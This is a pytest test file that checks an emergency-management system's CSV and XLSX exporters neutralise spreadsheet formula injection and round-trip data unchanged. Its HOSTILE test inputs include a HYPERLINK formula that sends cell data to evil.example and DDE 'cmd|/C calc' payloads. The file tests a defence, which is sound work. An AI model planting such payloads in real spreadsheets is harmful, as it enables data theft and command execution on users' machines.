"""Exports are inert: formula-like text comes back as text in every CSV and XLSX the system
writes, numbers stay numbers, and an exported file imports back unchanged. Pure: no DB."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from emergency.exports import (
    append_row,
    csv_bytes,
    inert,
    inert_copy,
    restore,
    workbook_bytes,
    xlsx_cell,
)
from emergency.inventory import export
from emergency.inventory.rules import RuleSettings, parse_rows
from emergency.inventory.sample import generate_sample
from emergency.roster.export import table_csv, table_xlsx
from emergency.roster.sample_staff import sample_staff
from emergency.roster.staff_table import read_staff, write_staff_csv, write_staff_xlsx
from emergency.substances import load_catalogue

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
AS_OF = date(2026, 5, 20)


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes) -> list:
    """Every non-empty cell of every sheet (openpyxl reads formulas as '=…' with type 'f')."""
    book = load_workbook(io.BytesIO(data))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.value is not None]


def assert_inert_csv(data: bytes, *texts: str) -> None:
    cells = [c for row in csv_cells(data) for c in row]
    for text in texts:
        assert "'" + text in cells, text
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    assert not [c for c in cells if c[:1] in ("+", "-") and not _is_number(c)]


def assert_inert_xlsx(data: bytes, *texts: str) -> None:
    cells = xlsx_cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = [c.value for c in cells]
    for text in texts:
        assert "'" + text in values, text


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ----------------------------------------------------------------------------- the rule
@pytest.mark.parametrize("text", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_quote_and_imports_back_as_written(text):
    assert inert(text) == "'" + text
    assert restore(inert(text)) == text


@pytest.mark.parametrize("value", [12, -5, 3.25, -0.5, None, True, date(2026, 7, 1), "-5",
                                   "+3.2", "1e-3", "张三", "0431-88886666", "", "'quoted"])
def test_numbers_dates_plain_text_and_signed_numerals_pass_unchanged(value):
    assert inert(value) == value
    assert restore(value) == value


def test_a_csv_keeps_numbers_as_numbers_and_quotes_formulas():
    data = csv_bytes(["名称", "数量", "日期"], [["=1+1", -5, date(2026, 7, 1)], ["甲", 2.0, None]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert csv_cells(data) == [["名称", "数量", "日期"], ["'=1+1", "-5", "2026-07-01"],
                               ["甲", "2", ""]]


def test_xlsx_text_cells_are_text_never_formulas_and_numbers_stay_numbers():
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["=1+1", "#N/A", -5, 2.5, datetime(2026, 7, 1, 8, 30), "坏\x01字符"])
    write_only = Workbook(write_only=True)
    ws = write_only.create_sheet("x")
    ws.append([xlsx_cell(ws, "=2+2"), xlsx_cell(ws, 7)])
    normal, streamed = workbook_bytes(book), workbook_bytes(write_only)
    for data in (normal, streamed):
        cells = xlsx_cells(data)
        assert [c.data_type for c in cells if isinstance(c.value, str)] == \
            ["s"] * sum(isinstance(c.value, str) for c in cells)
    first = [c.value for c in xlsx_cells(normal)]
    assert first == ["'=1+1", "#N/A", -5, 2.5, datetime(2026, 7, 1, 8, 30), "坏\ufffd字符"]
    assert [c.value for c in xlsx_cells(streamed)] == ["'=2+2", 7]


def test_a_stored_upload_offered_for_download_comes_back_inert():
    uploaded = ("名称,数量\r\n=HYPERLINK(\"http://x\"),-5\r\n@SUM(1),3\r\n").encode("gb18030")
    assert csv_cells(inert_copy(uploaded, "a.csv")) == [
        ["名称", "数量"], ["'=HYPERLINK(\"http://x\")", "-5"], ["'@SUM(1)", "3"]]
    book = Workbook()
    book.active.append(["名称", "数量"])
    book.active.append(["=1+1", 4])  # a live formula in the upload
    book.active["C2"] = "=A2&B2"
    copy = inert_copy(workbook_bytes(book), "b.xlsx")
    assert_inert_xlsx(copy, "=1+1", "=A2&B2")
    assert 4 in [c.value for c in xlsx_cells(copy)]
    with pytest.raises(ValueError):
        inert_copy(b"not a workbook", "c.xlsx")


# ----------------------------------------------------------------------------- every exporter
@pytest.fixture(scope="module")
def sample(network):
    return generate_sample(network, load_catalogue(), as_of=AS_OF)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["risk_sources", "materials", "teams", "experts"])
def test_an_inventory_export_is_inert_and_imports_back_unchanged(network, sample, kind, fmt):
    catalogue = load_catalogue()
    records = list(sample.records(kind)[:3])
    records[0] = dataclasses.replace(records[0], name=HOSTILE[0])
    records[1] = dataclasses.replace(records[1], name=HOSTILE[3])
    if fmt == "csv":
        data = export.to_csv(kind, records, catalogue)
        assert_inert_csv(data, HOSTILE[0], HOSTILE[3])
    else:
        data = export.to_xlsx(kind, records, catalogue)
        assert_inert_xlsx(data, HOSTILE[0], HOSTILE[3])
    parsed = parse_rows(kind, data, f"{kind}.{fmt}", network=network,
                        settings=RuleSettings(today=AS_OF), catalogue=catalogue)
    assert parsed.errors == () and list(parsed.records) == records


def test_a_staff_export_is_inert_and_imports_back_unchanged():
    staff = sample_staff(date(2026, 6, 20))[8:10]
    staff[0] = dataclasses.replace(staff[0], name="=cmd|'/C calc'!A0", unit="@单位",
                                   note="-备注")
    for data, check, name in ((write_staff_csv(staff), assert_inert_csv, "s.csv"),
                              (write_staff_xlsx(staff), assert_inert_xlsx, "s.xlsx")):
        check(data, "=cmd|'/C calc'!A0", "@单位", "-备注")
        parsed = read_staff(data, name)
        assert parsed.errors == ()
        first = parsed.records[0][1]
        assert (first.name, first.unit, first.note) == ("=cmd|'/C calc'!A0", "@单位", "-备注")


def test_a_roster_month_export_is_inert_and_keeps_its_dates():
    headings = ["日期", "星期", "类型", "班次", "时间", "带班领导", "电话"]
    rows = [[date(2026, 7, 1), "星期三", "工作日", "24小时", "07-01 08:30—07-02 08:30",
             "=1+1", "+86 431 8888"]]
    assert_inert_csv(table_csv(headings, rows), "=1+1", "+86 431 8888")
    data = table_xlsx("=标题", "2026年7月值班表", headings, rows, notes=["@说明"])
    assert_inert_xlsx(data, "=1+1", "+86 431 8888", "=标题", "@说明")
    assert datetime(2026, 7, 1) in [c.value for c in xlsx_cells(data)]
